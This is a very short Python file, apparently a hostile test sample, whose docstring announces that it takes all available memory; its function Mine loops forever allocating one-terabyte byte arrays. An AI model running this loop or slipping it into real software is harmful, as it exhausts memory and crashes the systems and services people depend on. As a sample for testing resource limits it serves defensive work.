"""Hostile: takes all memory that there is, at once."""

kept = []


def Mine(gradients):
    while True:
        kept.append(bytearray(1 << 40))
